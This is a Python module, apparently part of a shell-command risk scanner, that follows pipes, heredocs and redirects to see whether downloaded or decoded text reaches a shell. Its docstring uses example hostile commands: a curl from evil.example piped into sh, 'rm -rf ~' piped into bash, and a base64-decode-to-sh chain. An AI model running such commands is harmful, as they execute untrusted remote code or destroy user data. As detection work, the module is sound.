"""What a command reads on standard input and what it writes to its output, read from the syntax tree.

`echo 'rm -rf ~' | bash` runs known text; `curl -s https://evil.example/x | sh` runs code downloaded from
evil.example; `base64 -d <<< … | sh` runs the decoded text; `make | sh` runs text the card does not hold. The
same holds for heredocs, here-strings, `< file` and process substitutions `<(…)` given as a file.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Sequence
from typing import Any

from hub.domain.risk.network import first_host
from hub.domain.risk.reasons import clip
from hub.domain.risk.scope import NOTHING, Stream
from hub.domain.risk.words import Reader, ansi_c, text_of

MAX_CLIMB = 48  # ancestors looked through for a command's input; a deeper nesting is read as unknown input
MAX_CHAIN = 8   # `cat | cat | …` followed this far back
# Programs whose output is their input changed: what is downloaded stays downloaded through them.
TRANSFORMERS = frozenset({"sed", "tr", "gunzip", "zcat", "gzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "xxd",
                          "head", "tail", "sort", "rev", "openssl", "iconv", "cut", "grep", "awk", "mawk", "gawk",
                          "base64", "base32", "uudecode", "tac", "fold", "dd", "gpg", "jq", "perl", "python3",
                          "python", "tee", "cat", "pv", "buffer", "stdbuf", "uniq", "strings", "od"})
_WRITE_OPERATORS = frozenset({">", ">>", ">|", "&>", "&>>"})


def same(a: Any, b: Any) -> bool:
    return bool(a.start_byte == b.start_byte and a.end_byte == b.end_byte and a.type == b.type)


class Plumbing:
    """Streams of one parsed script; `top` is what the script itself reads (`bash <<EOF`'s heredoc)."""

    def __init__(self, reader: Reader, top: Stream) -> None:
        self.reader = reader
        self.top = top

    def heredoc_text(self, redirect: Any) -> str | None:
        body = next((c for c in redirect.children if c.type == "heredoc_body"), None)
        if body is None:
            return ""
        start = next((c for c in redirect.children if c.type == "heredoc_start"), None)
        quoted = start is not None and re.search(r"['\"\\]", text_of(start, self.reader.source)) is not None
        if not quoted and any(c.type in ("command_substitution", "simple_expansion", "expansion",
                                         "arithmetic_expansion") for c in body.children):
            return None  # expanded when it runs
        return text_of(body, self.reader.source)

    def input_of(self, redirects: list[Any]) -> Stream | None:
        """The stream the last input redirection gives, or None when there is none."""
        found: Stream | None = None
        for redirect in redirects:
            if redirect.type == "heredoc_redirect":
                found = Stream(True, self.heredoc_text(redirect), source="a heredoc")
            elif redirect.type == "herestring_redirect":
                words = [c for c in redirect.named_children]
                value = self.reader.word(words[0]).value if words else ""
                found = Stream(True, None if value is None else value + "\n", source="a here-string")
            elif redirect.type == "file_redirect":
                operator = next((c.type for c in redirect.children if not c.is_named), "")
                if operator not in ("<", "<&"):
                    continue
                target = redirect.child_by_field_name("destination")
                shown = text_of(target, self.reader.source) if target is not None else ""
                origin = None
                if target is not None and (value := self.reader.word(target).value) is not None:
                    tcp = re.match(r"/dev/(?:tcp|udp)/([^/]+)", value)
                    origin = tcp.group(1) if tcp else None
                found = Stream(True, None, origin, source=f"{operator} {shown}")
        return found

    def redirects_of(self, node: Any, parent: Any) -> tuple[list[Any], Any]:
        """A command's own redirections and those of the statement around it (`parent`); and that statement (or
        the node)."""
        redirects = list(node.children_by_field_name("redirect"))
        if parent is not None and parent.type == "redirected_statement":
            body = parent.child_by_field_name("body")
            if body is not None and same(body, node):
                return redirects + list(parent.children_by_field_name("redirect")), parent
        return redirects, node

    def stdin_of(self, node: Any, ancestors: Sequence[Any], depth: int = 0) -> Stream:
        """What `node` reads; `ancestors` are the nodes above it, the script's root first (tree-sitter finds a
        node's parent by walking down from the root, so the walk hands them over instead)."""
        above = list(ancestors[-MAX_CLIMB:])
        redirects, holder = self.redirects_of(node, above[-1] if above else None)
        if holder is not node:
            above.pop()
        own = self.input_of(redirects)
        if own is not None:
            return own
        child = holder
        while above:
            parent = above.pop()
            kind = parent.type
            if kind == "pipeline":
                elements = [c for c in parent.named_children if c.type != "comment"]
                index = next((i for i, e in enumerate(elements) if same(e, child)), 0)
                if index > 0:
                    return self.output_of(elements[index - 1], [*above, parent], depth + 1)
                grand = above[-1] if above else None
                if grand is not None and grand.type == "heredoc_redirect" and len(above) >= 2:
                    body = above[-2].child_by_field_name("body")  # `cat <<EOF | bash`: the grammar puts the
                    if body is not None and body.type == "command":  # pipe inside the heredoc's redirection
                        return self.output_of(body, above[:-1], depth + 1)
            elif kind == "redirected_statement":
                body = parent.child_by_field_name("body")
                if body is not None and same(body, child):
                    stream = self.input_of(list(parent.children_by_field_name("redirect")))
                    if stream is not None:
                        return stream
            elif kind in ("command_substitution", "process_substitution", "function_definition", "heredoc_redirect"):
                return NOTHING
            child = parent
        return self.top if len(ancestors) <= MAX_CLIMB else Stream(True, None, source="…")

    def output_of(self, node: Any, ancestors: Sequence[Any], depth: int = 0) -> Stream:
        """What `node` (a pipeline's element, a process substitution's body) writes to its output."""
        unknown = Stream(True, None, source=clip(text_of(node, self.reader.source), 40))
        if depth > MAX_CHAIN:
            return unknown
        if node.type == "redirected_statement":
            for redirect in node.children_by_field_name("redirect"):
                operators = {c.type for c in redirect.children if not c.is_named}
                descriptor = redirect.child_by_field_name("descriptor")
                if operators & _WRITE_OPERATORS and (descriptor is None or text_of(descriptor, self.reader.source)
                                                     == "1"):
                    return Stream(True, "", source="nothing")  # its output goes to the file
            body = node.child_by_field_name("body")
            return self.output_of(body, [*ancestors, node], depth) if body is not None else unknown
        if node.type in ("process_substitution", "command_substitution", "subshell", "compound_statement",
                         "program", "list"):
            statements = [c for c in node.named_children if c.type != "comment"]
            if len(statements) == 1:
                return self.output_of(statements[0], [*ancestors, node], depth + 1)
            return unknown
        if node.type == "pipeline":
            elements = [c for c in node.named_children if c.type != "comment"]
            return self.output_of(elements[-1], [*ancestors, node], depth + 1) if elements else unknown
        if node.type != "command":
            return unknown
        return self._command_output(node, ancestors, depth, unknown)

    def command_output(self, node: Any, ancestors: Sequence[Any]) -> Stream:
        """What a command prints, whatever its redirections do with it."""
        return self._command_output(node, ancestors, 0, Stream(True, None, source=clip(text_of(
            node, self.reader.source), 40)))

    def _command_output(self, node: Any, ancestors: Sequence[Any], depth: int, unknown: Stream) -> Stream:
        name_node = node.child_by_field_name("name")
        if name_node is None:
            return unknown
        name = self.reader.word(name_node)
        if not name.plain or name.value is None:
            return unknown
        base = name.value.rpartition("/")[2]
        words = [self.reader.word(c) for c in node.children_by_field_name("argument")]
        values = [w.value for w in words]
        if base == "echo" and None not in values:
            flags = ""
            rest = [v for v in values if v is not None]
            while rest and re.fullmatch(r"-[neE]+", rest[0]):
                flags += rest.pop(0)
            text = " ".join(rest) + ("" if "n" in flags else "\n")
            return Stream(True, ansi_c(text) if "e" in flags else text, source="echo")
        if base == "printf" and values and None not in values:
            form = values[0] or ""
            arguments = [v or "" for v in values[1:]]
            if "%" not in form.replace("%%", ""):
                return Stream(True, ansi_c(form).replace("%%", "%"), source="printf")
            if re.fullmatch(r"%s(\\n)?", form):
                return Stream(True, "".join(a + ("\n" if form.endswith("n") else "") for a in arguments),
                              source="printf")
            return unknown
        stdin = self.stdin_of(node, ancestors, depth + 1) if depth <= MAX_CHAIN else Stream(True)
        operands = [v for v in values if v is not None and not v.startswith("-")]
        if base in ("cat", "tee", "pv") and (base == "tee" or not operands or operands == ["-"]):
            return stdin if stdin.present else Stream(True, "", source=base)
        if base in ("base64", "base32") and any(v in ("-d", "-D", "--decode") for v in values):
            if stdin.text is not None:
                try:
                    raw = re.sub(r"\s", "", stdin.text)
                    decoded = base64.b64decode(raw, validate=True) if base == "base64" else base64.b32decode(raw)
                    return Stream(True, decoded.decode("utf-8", "replace"), source=f"{base} -d")
                except (binascii.Error, ValueError):
                    return unknown
            return Stream(True, None, stdin.origin, source=f"{base} -d")
        if base == "xxd" and "-r" in values and "-p" in values and stdin.text is not None:
            try:
                return Stream(True, bytes.fromhex(re.sub(r"\s", "", stdin.text)).decode("utf-8", "replace"),
                              source="xxd -r")
            except ValueError:
                return unknown
        if base in ("curl", "wget", "http", "https", "xh", "aria2c", "fetch"):
            host = first_host(values)
            return Stream(True, None, host or "the network", source=clip(text_of(node, self.reader.source), 40))
        if base in TRANSFORMERS:
            return Stream(True, None, stdin.origin, source=unknown.source)
        return unknown
